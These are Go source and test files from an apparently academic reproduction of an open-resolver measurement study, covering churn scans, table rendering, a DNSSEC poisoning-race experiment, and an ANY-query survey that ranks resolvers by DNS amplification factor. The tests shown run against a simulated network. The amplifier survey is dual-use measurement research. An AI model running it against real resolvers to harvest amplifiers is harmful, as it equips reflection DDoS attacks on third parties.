// end through the renderers and the markdown comparison: an empty
// weekly series must degrade to header-only tables and zero comparison
// rows instead of panicking on Series.First()/Last().
func TestEmptySeriesRendersWithoutPanic(t *testing.T) {
	empty := &churn.Series{}
	scale := Scale(1)
	if out := RenderFigure1(empty, scale); !strings.Contains(out, "Figure 1") {
		t.Errorf("RenderFigure1 lost its header on empty series:\n%s", out)
	}
	if out := RenderTable1(empty, scale, 10); !strings.Contains(out, "Table 1") {
		t.Errorf("RenderTable1 lost its header on empty series:\n%s", out)
	}
	if out := RenderTable2(empty, scale); !strings.Contains(out, "Table 2") {
		t.Errorf("RenderTable2 lost its header on empty series:\n%s", out)
	}
	if rows := CompareFigure1(empty, scale); len(rows) != 0 {
		t.Errorf("CompareFigure1 on empty series = %v, want none", rows)
	}
	if rows := CompareTables12(empty, scale); len(rows) != 0 {
		t.Errorf("CompareTables12 on empty series = %v, want none", rows)
	}
}
