package analysis

import (
	"fmt"
	"sort"
	"strings"

	"goingwild/internal/churn"
	"goingwild/internal/dnswire"
	"goingwild/internal/scanner"
)

// RenderEpochDelta renders one epoch of the streaming weekly series as
// a live churn update: the delta composition (adds, removes, rcode or
// source flips) followed by the week's running Figure-1 line and the
// top country movements. It is the per-epoch view the binaries print to
// stderr under -epochs -progress; the final tables on stdout stay the
// batch renderings, byte for byte.
func RenderEpochDelta(obs *churn.WeekObservation, d churn.EpochDelta, scale Scale, lag int) string {
	var adds, updates, removes int
	for _, dl := range d.Deltas {
		switch dl.Op {
		case scanner.DeltaAdd:
			adds++
		case scanner.DeltaUpdate:
			updates++
		case scanner.DeltaRemove:
			removes++
		}
	}
	var sb strings.Builder
	fmt.Fprintf(&sb, "epoch %2d  +%d -%d ~%d  responders %.0f  (NOERROR %.0f, REFUSED %.0f)  lag %d\n",
		d.Week, adds, removes, updates,
		scale.Extrapolate(obs.Total),
		scale.Extrapolate(obs.ByRCode[dnswire.RCodeNoError]),
		scale.Extrapolate(obs.ByRCode[dnswire.RCodeRefused]),
		lag)
	for _, row := range topCountries(obs, 5) {
		fmt.Fprintf(&sb, "          %-8s %8.0f\n", row.key, scale.Extrapolate(row.n))
	}
	return sb.String()
}

type countryCount struct {
	key string
	n   int
}

// topCountries lists the week's largest resolver populations, ties
// broken by country code so the live table is as deterministic as the
// series behind it.
func topCountries(obs *churn.WeekObservation, topN int) []countryCount {
	rows := make([]countryCount, 0, len(obs.ByCountry))
	for c, n := range obs.ByCountry {
		rows = append(rows, countryCount{key: c, n: n})
	}
	sort.Slice(rows, func(i, j int) bool {
		if rows[i].n != rows[j].n {
			return rows[i].n > rows[j].n
		}
		return rows[i].key < rows[j].key
	})
	if topN > 0 && len(rows) > topN {
		rows = rows[:topN]
	}
	return rows
}
