package analysis

import (
	"strings"
	"testing"

	"goingwild/internal/ampli"
	"goingwild/internal/core"
	"goingwild/internal/netalyzr"
	"goingwild/internal/snoop"
)

func TestRenderAmplification(t *testing.T) {
	s := &ampli.Survey{
		Measurements: []ampli.Measurement{
			{Addr: 1, RequestSize: 50, ResponseSize: 100},
			{Addr: 2, RequestSize: 50, ResponseSize: 2500},
		},
		Responded: 2,
		Refused:   1,
	}
	out := RenderAmplification(s, 10)
	for _, want := range []string{"BAF_all", "BAF_10", "refused ANY"} {
		if !strings.Contains(out, want) {
			t.Errorf("render missing %q:\n%s", want, out)
		}
	}
}

func TestRenderDNSSECRace(t *testing.T) {
	r := &core.DNSSECRaceResult{
		Domain: "wikileaks.org", Signed: true, Resolvers: 100,
		FirstPoisoned: 100, ValidatedCorrect: 2, ValidatedUnavail: 98,
	}
	out := RenderDNSSECRace(r)
	if !strings.Contains(out, "100.0% poisoned") || !strings.Contains(out, "98.0% unavailable") {
		t.Errorf("race render:\n%s", out)
	}
	unsigned := &core.DNSSECRaceResult{Domain: "facebook.com", Resolvers: 10, FirstPoisoned: 10, ValidatedFallback: 10}
	out = RenderDNSSECRace(unsigned)
	if !strings.Contains(out, "zone unsigned") {
		t.Errorf("unsigned render:\n%s", out)
	}
	if got := RenderDNSSECRace(&core.DNSSECRaceResult{Domain: "x"}); !strings.Contains(got, "0 resolvers") {
		t.Errorf("empty render:\n%s", got)
	}
}

func TestRenderPopularity(t *testing.T) {
	est := []snoop.PopularityEstimate{
		{Addr: 0x01020304, GapSeconds: 120, RequestsPerHour: 30, Observations: 3},
		{Addr: 0x05060708, GapSeconds: 0, RequestsPerHour: 3600, Observations: 5},
	}
	out := RenderPopularity(est, 1)
	if !strings.Contains(out, "5.6.7.8") {
		t.Errorf("topN ordering wrong (fastest first expected):\n%s", out)
	}
	if strings.Contains(out, "1.2.3.4") {
		t.Errorf("topN cap not applied:\n%s", out)
	}
}

func TestRenderNetalyzr(t *testing.T) {
	s := &netalyzr.Study{
		Sessions:   make([]netalyzr.SessionResult, 200),
		Monetizers: 22,
		Manipul:    9,
	}
	out := RenderNetalyzr(s)
	if !strings.Contains(out, "11.0%") || !strings.Contains(out, "4.5%") {
		t.Errorf("netalyzr render:\n%s", out)
	}
	if RenderNetalyzr(&netalyzr.Study{}) == "" {
		t.Error("empty study render empty")
	}
}

func TestCompareExtensionsRows(t *testing.T) {
	race := &core.DNSSECRaceResult{Resolvers: 10, FirstPoisoned: 10, ValidatedUnavail: 10}
	amp := &ampli.Survey{Responded: 5, Measurements: []ampli.Measurement{{Addr: 1, RequestSize: 10, ResponseSize: 100}}}
	est := []snoop.PopularityEstimate{{Addr: 1}}
	rows := CompareExtensions(race, amp, est)
	if len(rows) != 6 {
		t.Errorf("rows = %d, want 6", len(rows))
	}
	if rows := CompareExtensions(nil, nil, nil); len(rows) != 0 {
		t.Errorf("nil inputs produced %d rows", len(rows))
	}
}
