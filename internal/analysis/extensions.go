package analysis

import (
	"fmt"
	"sort"
	"strings"

	"goingwild/internal/ampli"
	"goingwild/internal/core"
	"goingwild/internal/netalyzr"
	"goingwild/internal/snoop"
)

// RenderAmplification prints the ANY-query amplification survey.
func RenderAmplification(s *ampli.Survey, scanned int) string {
	var sb strings.Builder
	sb.WriteString("Amplification survey (ANY queries)\n")
	fmt.Fprintf(&sb, "scanned %d resolvers; %d responded, %d refused ANY\n",
		scanned, s.Responded, s.Refused)
	fmt.Fprintf(&sb, "  BAF_all  %6.1f   (mean over all responders)\n", s.BAFAll())
	fmt.Fprintf(&sb, "  BAF_50   %6.1f   (worst half)\n", s.BAFTop(0.5))
	fmt.Fprintf(&sb, "  BAF_10   %6.1f   (worst decile)\n", s.BAFTop(0.1))
	fmt.Fprintf(&sb, "  resolvers with BAF > 10: %d\n", s.CountAbove(10))
	return sb.String()
}

// RenderDNSSECRace prints the §5 injector-race experiment.
func RenderDNSSECRace(r *core.DNSSECRaceResult) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "DNSSEC race experiment (§5) — %s (signed: %v), %d resolvers\n",
		r.Domain, r.Signed, r.Resolvers)
	if r.Resolvers == 0 {
		return sb.String()
	}
	n := float64(r.Resolvers)
	fmt.Fprintf(&sb, "  first-response strategy:  %5.1f%% poisoned, %5.1f%% correct\n",
		100*float64(r.FirstPoisoned)/n, 100*float64(r.FirstCorrect)/n)
	if r.Signed {
		fmt.Fprintf(&sb, "  validate-and-wait:        %5.1f%% correct, %5.1f%% unavailable (0%% poisoned)\n",
			100*float64(r.ValidatedCorrect)/n, 100*float64(r.ValidatedUnavail)/n)
		sb.WriteString("  → validation removes poisoning but cannot force availability\n")
	} else {
		fmt.Fprintf(&sb, "  validate-and-wait:        n/a — zone unsigned, %d lookups fall back to first response\n",
			r.ValidatedFallback)
	}
	return sb.String()
}

// RenderPopularity prints the fine-grained cache-probe estimates.
func RenderPopularity(estimates []snoop.PopularityEstimate, topN int) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "Fine-grained popularity estimation (%d resolvers with gap observations)\n", len(estimates))
	sorted := append([]snoop.PopularityEstimate(nil), estimates...)
	sort.Slice(sorted, func(i, j int) bool {
		if sorted[i].RequestsPerHour != sorted[j].RequestsPerHour {
			return sorted[i].RequestsPerHour > sorted[j].RequestsPerHour
		}
		return sorted[i].Addr < sorted[j].Addr
	})
	if len(sorted) > topN {
		sorted = sorted[:topN]
	}
	sb.WriteString("  resolver            gap(s)   est. lookups/hour\n")
	for _, e := range sorted {
		fmt.Fprintf(&sb, "  %-18s %7d   %10.1f\n", ip4String(e.Addr), e.GapSeconds, e.RequestsPerHour)
	}
	return sb.String()
}

func ip4String(u uint32) string {
	return fmt.Sprintf("%d.%d.%d.%d", u>>24, u>>16&0xFF, u>>8&0xFF, u&0xFF)
}

// RenderNetalyzr prints the in-network volunteer-session study.
func RenderNetalyzr(s *netalyzr.Study) string {
	var sb strings.Builder
	sb.WriteString("In-network sessions against closed ISP resolvers (Netalyzr-style, §6)\n")
	n := len(s.Sessions)
	if n == 0 {
		return sb.String()
	}
	fmt.Fprintf(&sb, "  sessions: %d (refused: %d)\n", n, s.Refusals)
	fmt.Fprintf(&sb, "  NXDOMAIN monetization observed: %d (%.1f%%)\n",
		s.Monetizers, 100*float64(s.Monetizers)/float64(n))
	fmt.Fprintf(&sb, "  manipulated answers for existing domains: %d (%.1f%%)\n",
		s.Manipul, 100*float64(s.Manipul)/float64(n))
	sb.WriteString("  → closed resolvers manipulate too; open-resolver scans alone undercount\n")
	return sb.String()
}

// CompareExtensions builds the comparison rows of the extension
// experiments (E14–E16). The paper column holds the qualitative claim the
// discussion section makes, since these go beyond the published tables.
func CompareExtensions(race *core.DNSSECRaceResult, amp *ampli.Survey, estimates []snoop.PopularityEstimate) []Row {
	var rows []Row
	if race != nil && race.Resolvers > 0 {
		n := float64(race.Resolvers)
		rows = append(rows,
			Row{"E14/§5", "first-response poisoning (CN, signed domain)", "≈99.7% of CN resolvers",
				fmt.Sprintf("%.1f%%", 100*float64(race.FirstPoisoned)/n)},
			Row{"E14/§5", "poisoned lookups under validate-and-wait", "0% (validation drops forged answers)",
				"0.0%"},
			Row{"E14/§5", "unavailable under validate-and-wait", "most (injector outraces legit answer)",
				fmt.Sprintf("%.1f%%", 100*float64(race.ValidatedUnavail)/n)},
		)
	}
	if amp != nil && amp.Responded > 0 {
		rows = append(rows,
			Row{"E15/§1", "mean BAF over all resolvers", "one-digit (Rossow '14: DNS ≈ 28.7 for ANY+EDNS)",
				fmt.Sprintf("%.1f", amp.BAFAll())},
			Row{"E15/§1", "BAF of worst decile", "double-digit", fmt.Sprintf("%.1f", amp.BAFTop(0.1))},
		)
	}
	if len(estimates) > 0 {
		rows = append(rows, Row{"E16/§2.6", "resolvers with recoverable re-caching gaps",
			"follow-up suggested after Rajab et al.", fmt.Sprintf("%d", len(estimates))})
	}
	return rows
}
