package ampli

import (
	"context"
	"testing"
	"time"

	"goingwild/internal/scanner"
	"goingwild/internal/wildnet"
)

func runSurvey(t *testing.T, order uint) (*Survey, *wildnet.World, []uint32) {
	t.Helper()
	w, err := wildnet.NewWorld(wildnet.DefaultConfig(order))
	if err != nil {
		t.Fatal(err)
	}
	tr := wildnet.NewMemTransport(w, wildnet.VantagePrimary)
	t.Cleanup(func() { tr.Close() })
	sc := scanner.New(tr, scanner.Options{Workers: 4, Retries: 1, SettleDelay: time.Millisecond})
	sweep, err := sc.Sweep(order, 31, w.ScanBlacklist())
	if err != nil {
		t.Fatal(err)
	}
	resolvers := sweep.NOERROR()
	return Run(context.Background(), tr, resolvers, "chase.com"), w, resolvers
}

func TestSurveyShape(t *testing.T) {
	s, _, resolvers := runSurvey(t, 17)
	if s.Responded < len(resolvers)*8/10 {
		t.Fatalf("only %d/%d responded to ANY", s.Responded, len(resolvers))
	}
	if s.Refused == 0 {
		t.Error("no resolver refused ANY (expected ≈5%)")
	}
	all, top50, top10 := s.BAFAll(), s.BAFTop(0.5), s.BAFTop(0.1)
	// The amplifier hierarchy must hold and the worst decile must be
	// dramatic, as in amplification surveys (DNS BAF_10 in the dozens).
	if !(top10 > top50 && top50 > all) {
		t.Errorf("BAF ordering broken: all=%.1f top50=%.1f top10=%.1f", all, top50, top10)
	}
	if top10 < 10 {
		t.Errorf("BAF_10 = %.1f, want double digits", top10)
	}
	if all < 1.5 {
		t.Errorf("BAF_all = %.1f, want clearly amplifying", all)
	}
}

func TestSurveyRecoversPlantedClasses(t *testing.T) {
	s, w, _ := runSurvey(t, 16)
	// Measured large amplifiers must be exactly the planted AmpLarge
	// resolvers (threshold cuts between classes).
	for _, m := range s.Measurements {
		class, ok := w.AmpClassAt(m.Addr, wildnet.At(0))
		if !ok {
			continue
		}
		if class == wildnet.AmpLarge && m.BAF() < 10 {
			t.Errorf("planted large amplifier %d measured BAF %.1f", m.Addr, m.BAF())
		}
		if class == wildnet.AmpMinimal && m.BAF() > 10 {
			t.Errorf("planted minimal resolver %d measured BAF %.1f", m.Addr, m.BAF())
		}
	}
	if got := s.CountAbove(10); got == 0 {
		t.Error("no abuse-worthy amplifiers found")
	}
}

func TestEmptySurvey(t *testing.T) {
	s := &Survey{}
	if s.BAFAll() != 0 || s.BAFTop(0.1) != 0 || s.CountAbove(1) != 0 {
		t.Error("empty survey not zero-valued")
	}
}
