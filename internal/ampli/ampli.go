// Package ampli surveys the amplification-DDoS potential of the open
// resolver population — the threat framing of the paper's introduction
// and of the authors' companion study (Kührer et al., USENIX Security
// 2014): ANY queries are sent to every resolver and the bandwidth
// amplification factor (response bytes over request bytes) is measured.
package ampli

import (
	"context"
	"net/netip"
	"sort"
	"sync"

	"goingwild/internal/dnswire"
	"goingwild/internal/lfsr"
	"goingwild/internal/scanner"
)

// Measurement is one resolver's amplification result.
type Measurement struct {
	Addr         uint32
	RequestSize  int
	ResponseSize int
}

// BAF returns the bandwidth amplification factor.
func (m Measurement) BAF() float64 {
	if m.RequestSize == 0 {
		return 0
	}
	return float64(m.ResponseSize) / float64(m.RequestSize)
}

// Survey aggregates a population's amplification measurements, in the
// BAF_all / BAF_50 / BAF_10 shape amplifier studies report.
type Survey struct {
	Measurements []Measurement
	// Responded counts resolvers that answered the ANY probe.
	Responded int
	// Refused counts resolvers rejecting ANY queries.
	Refused int
}

// bafs returns the sorted (ascending) amplification factors.
func (s *Survey) bafs() []float64 {
	out := make([]float64, 0, len(s.Measurements))
	for _, m := range s.Measurements {
		out = append(out, m.BAF())
	}
	sort.Float64s(out)
	return out
}

// BAFAll returns the mean amplification factor over all responders.
func (s *Survey) BAFAll() float64 {
	b := s.bafs()
	if len(b) == 0 {
		return 0
	}
	var sum float64
	for _, v := range b {
		sum += v
	}
	return sum / float64(len(b))
}

// BAFTop returns the mean amplification of the worst `fraction` of
// responders (BAF_50 = fraction 0.5, BAF_10 = fraction 0.1).
func (s *Survey) BAFTop(fraction float64) float64 {
	b := s.bafs()
	if len(b) == 0 {
		return 0
	}
	n := int(float64(len(b)) * fraction)
	if n < 1 {
		n = 1
	}
	top := b[len(b)-n:]
	var sum float64
	for _, v := range top {
		sum += v
	}
	return sum / float64(len(top))
}

// CountAbove counts responders whose BAF exceeds the threshold (the
// abuse-worthy amplifiers an attacker would harvest).
func (s *Survey) CountAbove(threshold float64) int {
	n := 0
	for _, m := range s.Measurements {
		if m.BAF() > threshold {
			n++
		}
	}
	return n
}

// Run sends one ANY query for name to every resolver and measures the
// response sizes. A cancelled ctx stops the send loop; the survey then
// covers the resolvers probed before the abort.
func Run(ctx context.Context, tr scanner.Transport, resolvers []uint32, name string) *Survey {
	survey := &Survey{}
	var mu sync.Mutex
	sizes := make(map[uint32]Measurement, len(resolvers)/2)
	refused := map[uint32]bool{}
	want := make(map[uint32]struct{}, len(resolvers))
	for _, u := range resolvers {
		want[u] = struct{}{}
	}

	q := dnswire.NewQuery(0xA3F, name, dnswire.TypeANY, dnswire.ClassIN)
	q.AddEDNS(4096) // amplification abuse always advertises a large buffer
	wire, err := q.PackBytes()
	if err != nil {
		return survey
	}
	reqSize := len(wire)

	tr.SetReceiver(func(src netip.Addr, srcPort, dstPort uint16, payload []byte) {
		m, err := dnswire.Unpack(payload)
		if err != nil || !m.Header.QR {
			return
		}
		u := lfsr.AddrToU32(src)
		if _, ok := want[u]; !ok {
			return
		}
		mu.Lock()
		defer mu.Unlock()
		if m.Header.RCode == dnswire.RCodeRefused {
			refused[u] = true
			return
		}
		if _, dup := sizes[u]; !dup {
			sizes[u] = Measurement{Addr: u, RequestSize: reqSize, ResponseSize: len(payload)}
		}
	})
	for _, u := range resolvers {
		if ctx.Err() != nil {
			break
		}
		//lint:allow errdrop amplification-probe send failures are modeled packet loss
		tr.Send(ctx, lfsr.U32ToAddr(u), 53, 33001, wire)
	}

	mu.Lock()
	defer mu.Unlock()
	for _, m := range sizes {
		survey.Measurements = append(survey.Measurements, m)
	}
	survey.Responded = len(sizes) + len(refused)
	survey.Refused = len(refused)
	sort.Slice(survey.Measurements, func(i, j int) bool {
		return survey.Measurements[i].Addr < survey.Measurements[j].Addr
	})
	return survey
}
