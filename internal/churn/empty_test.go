package churn

import "testing"

// TestEmptySeriesEndpoints is the regression test for the empty-series
// panic: First/Last used to index s.Weeks[0] unconditionally, so a
// zero-week study (-weeks 0, or a zero-epoch resume) crashed any caller
// touching the endpoints. They now return nil, and the fluctuation
// tables degrade to no rows.
func TestEmptySeriesEndpoints(t *testing.T) {
	var s Series
	if got := s.First(); got != nil {
		t.Errorf("First() on empty series = %v, want nil", got)
	}
	if got := s.Last(); got != nil {
		t.Errorf("Last() on empty series = %v, want nil", got)
	}
	if rows := s.CountryFluctuation(10); rows != nil {
		t.Errorf("CountryFluctuation on empty series = %v, want nil", rows)
	}
	if rows := s.RIRFluctuation(); rows != nil {
		t.Errorf("RIRFluctuation on empty series = %v, want nil", rows)
	}
}

// TestSingleWeekSeriesEndpoints pins the boundary just above empty:
// both endpoints are the same (and only) observation.
func TestSingleWeekSeriesEndpoints(t *testing.T) {
	s := Series{Weeks: []WeekObservation{{Week: 0, Total: 3}}}
	if f := s.First(); f == nil || f.Total != 3 {
		t.Errorf("First() = %v, want the single week", f)
	}
	if l := s.Last(); l == nil || l.Total != 3 {
		t.Errorf("Last() = %v, want the single week", l)
	}
}
