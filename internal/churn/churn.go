// Package churn drives and aggregates the longitudinal study of Section
// 2: the 55 weekly Internet-wide scans (Figure 1), the per-country and
// per-RIR fluctuation tables (Tables 1 and 2), the IP-address-churn
// cohort study (Figure 2), and the vanished-network analysis.
package churn

import (
	"context"
	"sort"

	"goingwild/internal/dnswire"
	"goingwild/internal/geodb"
	"goingwild/internal/lfsr"
	"goingwild/internal/scanner"
	"goingwild/internal/wildnet"
)

// Clock advances the simulated world between scans; both transports
// implement it.
type Clock interface {
	SetTime(wildnet.Time)
}

// Locator maps an address to its country and registry; the production
// pipeline uses the synthetic GeoIP registry.
type Locator func(u uint32) (country string, rir geodb.RIR)

// WeekObservation is one weekly scan's aggregate.
type WeekObservation struct {
	Week      int
	Total     int
	ByRCode   map[dnswire.RCode]int
	ByCountry map[string]int
	ByRIR     map[geodb.RIR]int
	// Responders is kept only for the weeks the caller asks to retain
	// (the first and last, for Tables 1–2 and network forensics).
	Responders []scanner.Responder
}

// Series is the full weekly study.
type Series struct {
	Weeks []WeekObservation
}

// StudyConfig parameterizes the longitudinal run.
type StudyConfig struct {
	Order     uint
	Seed      uint32
	Weeks     int // number of weekly scans (the paper ran 55)
	Blacklist *lfsr.Blacklist
	// RetainWeeks lists week indices whose responder lists are kept.
	RetainWeeks []int
	// StartWeek is the first week StreamWeekly scans (resume support):
	// weeks before it are assumed already applied downstream. The zero
	// value streams the whole study. RunWeekly ignores it.
	StartWeek int
	// Prev is the responder snapshot of week StartWeek-1, needed to
	// diff the first streamed week against when resuming mid-series.
	Prev []scanner.Responder
	// Sweep, when set, replaces the weekly SweepContext call — the seam
	// through which a checkpointing orchestrator injects resumable
	// sweeps. It must produce exactly what SweepContext(ctx, Order,
	// Seed+week, Blacklist) produces. RunWeekly ignores it.
	Sweep func(ctx context.Context, week int) (*scanner.SweepResult, error)
}

// RunWeekly performs cfg.Weeks weekly scans, advancing the clock before
// each. Cancellation checkpoints sit between weeks; a cancelled run
// returns the weeks measured so far together with ctx.Err().
func RunWeekly(ctx context.Context, sc *scanner.Scanner, clock Clock, loc Locator, cfg StudyConfig) (*Series, error) {
	retain := map[int]bool{}
	for _, w := range cfg.RetainWeeks {
		retain[w] = true
	}
	series := &Series{}
	for week := 0; week < cfg.Weeks; week++ {
		if err := ctx.Err(); err != nil {
			return series, err
		}
		clock.SetTime(wildnet.At(week))
		res, err := sc.SweepContext(ctx, cfg.Order, cfg.Seed+uint32(week), cfg.Blacklist)
		if err != nil {
			return series, err
		}
		obs := WeekObservation{
			Week:      week,
			Total:     res.Total(),
			ByRCode:   res.ByRCode,
			ByCountry: map[string]int{},
			ByRIR:     map[geodb.RIR]int{},
		}
		for _, r := range res.Responders {
			country, rir := loc(r.Addr)
			obs.ByCountry[country]++
			obs.ByRIR[rir]++
		}
		if retain[week] {
			obs.Responders = res.Responders
		}
		series.Weeks = append(series.Weeks, obs)
	}
	return series, nil
}

// First returns the series' opening observation, or nil when no weeks
// were scanned. An empty series is reachable (a -weeks 0 run, a
// zero-epoch resume), and this used to panic on s.Weeks[0]; callers
// must treat nil as "no data", which every renderer now does.
func (s *Series) First() *WeekObservation {
	if len(s.Weeks) == 0 {
		return nil
	}
	return &s.Weeks[0]
}

// Last returns the final weekly observation, or nil when the series is
// empty (see First).
func (s *Series) Last() *WeekObservation {
	if len(s.Weeks) == 0 {
		return nil
	}
	return &s.Weeks[len(s.Weeks)-1]
}

// FluctuationRow is one row of Table 1 / Table 2.
type FluctuationRow struct {
	Key         string
	Start, End  int
	Fluctuation int
	Percent     float64
}

// CountryFluctuation builds Table 1: the top-n countries by start-of-study
// responder count, with their end-of-study fluctuation.
func (s *Series) CountryFluctuation(topN int) []FluctuationRow {
	first, last := s.First(), s.Last()
	if first == nil {
		return nil
	}
	rows := make([]FluctuationRow, 0, len(first.ByCountry))
	for c, n := range first.ByCountry {
		e := last.ByCountry[c]
		row := FluctuationRow{Key: c, Start: n, End: e, Fluctuation: e - n}
		if n > 0 {
			row.Percent = 100 * float64(e-n) / float64(n)
		}
		rows = append(rows, row)
	}
	// rows came out of a map: break start-count ties by country code.
	sort.Slice(rows, func(i, j int) bool {
		if rows[i].Start != rows[j].Start {
			return rows[i].Start > rows[j].Start
		}
		return rows[i].Key < rows[j].Key
	})
	if topN > 0 && len(rows) > topN {
		rows = rows[:topN]
	}
	return rows
}

// RIRFluctuation builds Table 2.
func (s *Series) RIRFluctuation() []FluctuationRow {
	first, last := s.First(), s.Last()
	if first == nil {
		return nil
	}
	rows := make([]FluctuationRow, 0, len(geodb.AllRIRs))
	for _, rir := range geodb.AllRIRs {
		n, e := first.ByRIR[rir], last.ByRIR[rir]
		row := FluctuationRow{Key: rir.String(), Start: n, End: e, Fluctuation: e - n}
		if n > 0 {
			row.Percent = 100 * float64(e-n) / float64(n)
		}
		rows = append(rows, row)
	}
	sort.Slice(rows, func(i, j int) bool { return rows[i].Start > rows[j].Start })
	return rows
}

// CohortStudy tracks the week-0 responders over time (Figure 2).
type CohortStudy struct {
	// Cohort is the initial responder set.
	Cohort []uint32
	// SurvivalByWeek[k] is the fraction of the cohort still answering
	// at week k (index 0 is 1.0 by construction).
	SurvivalByWeek []float64
	// Day1Survival is the fraction still answering one day after the
	// initial scan.
	Day1Survival float64
	// DynamicRDNSShare is, among cohort members that disappeared after
	// one day and have rDNS, the fraction whose record carries a
	// dynamic-assignment token (§2.5 finds 67.4%).
	DynamicRDNSShare float64
	// RDNSCount is the number of one-day-churners with rDNS records.
	RDNSCount int
	// Survivors is the set still answering at the final probed week.
	Survivors []uint32
	// TopSurvivorNetworks is the share of final survivors concentrated
	// in the three largest networks (§2.5 finds a fifth of the 4.0%
	// survivors in just three providers).
	TopSurvivorNetworks float64
}

// ConcentrateSurvivors computes the top-3-network share of the final
// survivors using the given AS mapping.
func (c *CohortStudy) ConcentrateSurvivors(asOf func(u uint32) uint32) {
	counts := map[uint32]int{}
	for _, u := range c.Survivors {
		counts[asOf(u)]++
	}
	sizes := make([]int, 0, len(counts))
	for _, n := range counts {
		sizes = append(sizes, n)
	}
	sort.Sort(sort.Reverse(sort.IntSlice(sizes)))
	top := 0
	for i, n := range sizes {
		if i >= 3 {
			break
		}
		top += n
	}
	if len(c.Survivors) > 0 {
		c.TopSurvivorNetworks = float64(top) / float64(len(c.Survivors))
	}
}

// RunCohort probes the cohort weekly for `weeks` weeks and measures the
// day-1 churn plus the rDNS token analysis, resolving PTR records through
// the trusted resolver at trustedDNS. Cancellation checkpoints sit
// between weekly rounds; a cancelled run returns the partially filled
// study together with ctx.Err().
func RunCohort(ctx context.Context, sc *scanner.Scanner, clock Clock, cohort []uint32, weeks int, trustedDNS uint32) (*CohortStudy, error) {
	study := &CohortStudy{Cohort: cohort, SurvivalByWeek: make([]float64, weeks+1)}
	study.SurvivalByWeek[0] = 1.0
	n := float64(len(cohort))

	// Day 1.
	clock.SetTime(wildnet.Time{Week: 0, Day: 1})
	aliveDay1, err := sc.ProbeAliveContext(ctx, cohort)
	if err != nil {
		return study, err
	}
	study.Day1Survival = float64(len(aliveDay1)) / n

	// rDNS analysis of one-day churners.
	var withRDNS, dynamic int
	for _, u := range cohort {
		if aliveDay1[u] {
			continue
		}
		name, ok := sc.LookupPTR(trustedDNS, u)
		if !ok {
			continue
		}
		withRDNS++
		if geodb.HasDynamicToken(name) {
			dynamic++
		}
	}
	study.RDNSCount = withRDNS
	if withRDNS > 0 {
		study.DynamicRDNSShare = float64(dynamic) / float64(withRDNS)
	}

	// Weekly survival.
	remaining := cohort
	for week := 1; week <= weeks; week++ {
		if err := ctx.Err(); err != nil {
			return study, err
		}
		clock.SetTime(wildnet.At(week))
		alive, err := sc.ProbeAliveContext(ctx, remaining)
		if err != nil {
			return study, err
		}
		study.SurvivalByWeek[week] = float64(len(alive)) / n
		// Only re-probe survivors: disappearing-and-returning hosts
		// are a different tenant behind a recycled address, exactly
		// what the paper's same-IP tracking excludes.
		next := remaining[:0]
		for _, u := range remaining {
			if alive[u] {
				next = append(next, u)
			}
		}
		remaining = next
	}
	study.Survivors = append([]uint32(nil), remaining...)
	return study, nil
}

// VanishedNetworks finds the networks (grouped by AS) that operated at
// least minStart responders in the first scan and none in the last, and
// classifies them with the verification-scan logic of §2.3: networks
// still visible from the secondary vantage block the primary scanner;
// networks above the threshold that vanished for both vantages applied
// DNS filtering; small ones simply shut down.
type VanishedNetwork struct {
	ASN    uint32
	Name   string
	Start  int
	Reason string // "blocks-scanner", "dns-filtering", "shutdown"
}

// ClassifyVanished compares first/last responder sets and the secondary
// verification scan.
func ClassifyVanished(first, last []scanner.Responder, secondary map[uint32]bool, asOf func(u uint32) (uint32, string), minStart, filterThreshold int) []VanishedNetwork {
	startByAS := map[uint32]int{}
	nameByAS := map[uint32]string{}
	for _, r := range first {
		asn, name := asOf(r.Addr)
		startByAS[asn]++
		nameByAS[asn] = name
	}
	lastByAS := map[uint32]int{}
	for _, r := range last {
		asn, _ := asOf(r.Addr)
		lastByAS[asn]++
	}
	secByAS := map[uint32]int{}
	for u, ok := range secondary {
		if !ok {
			continue
		}
		asn, _ := asOf(u)
		secByAS[asn]++
	}
	var out []VanishedNetwork
	for asn, n := range startByAS {
		if n < minStart || lastByAS[asn] > 0 {
			continue
		}
		v := VanishedNetwork{ASN: asn, Name: nameByAS[asn], Start: n}
		switch {
		case secByAS[asn] > 0:
			v.Reason = "blocks-scanner"
		case n >= filterThreshold:
			v.Reason = "dns-filtering"
		default:
			v.Reason = "shutdown"
		}
		out = append(out, v)
	}
	// out came out of a map: break start-count ties by ASN.
	sort.Slice(out, func(i, j int) bool {
		if out[i].Start != out[j].Start {
			return out[i].Start > out[j].Start
		}
		return out[i].ASN < out[j].ASN
	})
	return out
}
