package churn

import (
	"context"
	"reflect"
	"testing"
)

// streamConfig is the shared study shape for the batch-vs-stream tests.
var streamConfig = StudyConfig{Order: 16, Seed: 77, Weeks: 6, RetainWeeks: []int{0, 5}}

// runBatch runs RunWeekly on a fresh world.
func runBatch(t *testing.T) *Series {
	t.Helper()
	r := newRig(t, streamConfig.Order)
	defer r.tr.Close()
	cfg := streamConfig
	cfg.Blacklist = r.w.ScanBlacklist()
	series, err := RunWeekly(context.Background(), r.sc, r.tr, r.locator(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	return series
}

// runStream runs StreamWeekly into sink on an identically configured
// fresh world, so the sweeps see the same simulated Internet as the
// batch run.
func runStream(t *testing.T, sink func(context.Context, EpochDelta) error) Locator {
	t.Helper()
	r := newRig(t, streamConfig.Order)
	defer r.tr.Close()
	cfg := streamConfig
	cfg.Blacklist = r.w.ScanBlacklist()
	if err := StreamWeekly(context.Background(), r.sc, r.tr, cfg, sink); err != nil {
		t.Fatal(err)
	}
	return r.locator()
}

// locFromRig builds a locator over a fresh world of the test order —
// location is a pure function of the address and the deterministic
// world geometry, so any same-order world agrees.
func locFromRig(t *testing.T) Locator {
	t.Helper()
	r := newRig(t, streamConfig.Order)
	t.Cleanup(func() { r.tr.Close() })
	return r.locator()
}

func TestStreamWeeklyMatchesBatchSeries(t *testing.T) {
	batch := runBatch(t)

	var deltas []EpochDelta
	loc := runStream(t, func(_ context.Context, d EpochDelta) error {
		deltas = append(deltas, d)
		return nil
	})

	// The tracker replays the delta stream over the empty snapshot; the
	// resulting series must be identical to the batch run's, map for map
	// and responder for responder — the contract that lets the one-shot
	// binaries stream without changing a byte of output.
	tr := NewTracker(loc, streamConfig.RetainWeeks)
	for _, d := range deltas {
		if _, err := tr.Apply(d); err != nil {
			t.Fatal(err)
		}
	}
	got := tr.Series()
	if !reflect.DeepEqual(got, batch) {
		for i := range batch.Weeks {
